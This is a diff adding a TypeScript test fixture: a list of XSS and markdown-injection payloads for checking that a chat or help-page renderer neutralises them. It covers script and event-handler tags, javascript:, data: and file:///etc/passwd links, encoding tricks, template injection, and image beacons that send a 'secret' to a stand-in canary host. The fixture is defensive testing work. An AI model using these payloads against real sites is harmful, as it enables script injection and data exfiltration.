@@ -1,0 +1,86 @@
+/** An address that no test may ever request. */
+export const CANARY = 'https://canary.invalid/';
+
+/**
+ * Answers an attacker may get into a model, a help page or a lead: none may run, link to a script or fetch anything.
+ *
+ * Ours to extend: every new trick becomes one more entry.
+ */
+export const XSS_PAYLOADS: readonly string[] = [
+  // Raw HTML.
+  '<script>globalThis.pwned = 1</script>',
+  '<img src=x onerror="globalThis.pwned = 1">',
+  `<img src="${CANARY}raw.png">`,
+  '<svg onload="globalThis.pwned = 1"></svg>',
+  '<svg><script>globalThis.pwned = 1</script></svg>',
+  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
+  `<iframe src="${CANARY}frame"></iframe>`,
+  '<a href="javascript:globalThis.pwned = 1">x</a>',
+  '<details open ontoggle="globalThis.pwned = 1">x</details>',
+  '<body onload="globalThis.pwned = 1">',
+  '<video autoplay onloadstart="globalThis.pwned = 1"><source src=x></video>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.pwned = 1">',
+  '<form action="javascript:globalThis.pwned = 1"><button>go</button></form>',
+  '<input autofocus onfocus="globalThis.pwned = 1">',
+  `<link rel="stylesheet" href="${CANARY}style.css">`,
+  `<style>@import url(${CANARY}import.css);</style>`,
+  `<meta http-equiv="refresh" content="0;url=${CANARY}">`,
+  '<object data="javascript:globalThis.pwned = 1"></object>',
+  '<base href="https://canary.invalid/">',
+  '<template><img src=x onerror="globalThis.pwned = 1"></template>',
+  '<!--><img src=x onerror="globalThis.pwned = 1">-->',
+  '<understudy-chat open bundle="https://canary.invalid/"></understudy-chat>',
+  // Links.
+  '[x](javascript:globalThis.pwned=1)',
+  '[x](JaVaScRiPt:globalThis.pwned=1)',
+  '[x](<javascript:globalThis.pwned=1>)',
+  '[x]( javascript:globalThis.pwned=1)',
+  '[x](\u0001javascript:globalThis.pwned=1)',
+  '[x](java\tscript:globalThis.pwned=1)',
+  '[x](java\\script:globalThis.pwned=1)',
+  '[x](javascript&colon;globalThis.pwned=1)',
+  '[x](&#106;avascript:globalThis.pwned=1)',
+  '[x](javascript%3Aglobal)',
+  '[x](data:text/html,<script>parent.pwned=1</script>)',
+  '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)',
+  '[x](vbscript:msgbox)',
+  '[x](blob:https://canary.invalid/1)',
+  '[x](file:///etc/passwd)',
+  '[x](view-source:https://canary.invalid/)',
+  '[x](filesystem:https://canary.invalid/temporary/x)',
+  '[x](https://site.example@canary.invalid/)',
+  '[x](https://a:b@canary.invalid/)',
+  '<javascript:globalThis.pwned=1>',
+  '[x][1]\n\n[1]: javascript:globalThis.pwned=1',
+  '[a](javascript:globalThis.pwned=1 "title")',
+  '[![x](javascript:globalThis.pwned=1)](javascript:globalThis.pwned=1)',
+  '[x](https://ok.example/"onmouseover="globalThis.pwned=1)',
+  "[x](https://ok.example/'onmouseover='globalThis.pwned=1)",
+  '[x](https://ok.example/ "t\\" onmouseover=\\"globalThis.pwned=1")',
+  'https://ok.example/"onmouseover="globalThis.pwned=1',
+  '[<img src=x onerror=globalThis.pwned=1>](https://ok.example/)',
+  // Images that tell an attacker what was asked.
+  `![secret](${CANARY}beacon?q=secret)`,
+  `![](${CANARY}empty.png)`,
+  `[![secret](${CANARY}linked.png)](https://ok.example/)`,
+  `![x][img]\n\n[img]: ${CANARY}ref.png`,
+  `![x](//canary.invalid/protocol-relative.png)`,
+  // Inside other marks.
+  '| a |\n|---|\n| <img src=x onerror="globalThis.pwned = 1"> |',
+  '| [x](javascript:globalThis.pwned=1) |\n|---|\n| [y](javascript:globalThis.pwned=1) |',
+  '- <script>globalThis.pwned = 1</script>\n  - [x](javascript:globalThis.pwned=1)',
+  '# <img src=x onerror="globalThis.pwned = 1">',
+  '**<img src=x onerror="globalThis.pwned = 1">**',
+  '`<img src=x onerror="globalThis.pwned = 1">`',
+  '```html\n<script>globalThis.pwned = 1</script>\n```',
+  '```"><img src=x onerror="globalThis.pwned = 1">\nx\n```',
+  // Template syntax of ours and of others.
+  '${globalThis.pwned = 1}',
+  '{{constructor.constructor("globalThis.pwned = 1")()}}',
+  '<!--?lit$123$--><?lit$123$?>',
+  // Odd characters.
+  '\u202e[x](javascript:globalThis.pwned=1)\u202c',
+  '[x](javascript\u0000:globalThis.pwned=1)',
+  '\ud800[x](javascript:globalThis.pwned=1)\udfff',
+  '[x](\u2028javascript:globalThis.pwned=1)',
+];
